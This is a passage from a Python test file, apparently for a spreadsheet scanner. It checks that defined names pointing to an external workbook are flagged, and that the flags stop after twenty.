    ]


def test_names_that_reach_out_are_flagged_as_often_as_anybody_reads_that() -> None:
    names = "".join(f'<definedName name="n{number}">[1]S!$A$1</definedName>' for number in range(50))
    artifact = read(('name="S"', rows("<c><v>1</v></c>")), extra=f"<definedNames>{names}</definedNames>")

    assert [flag.locator for flag in artifact.flags] == [f"defined name / n{number}" for number in range(20)]
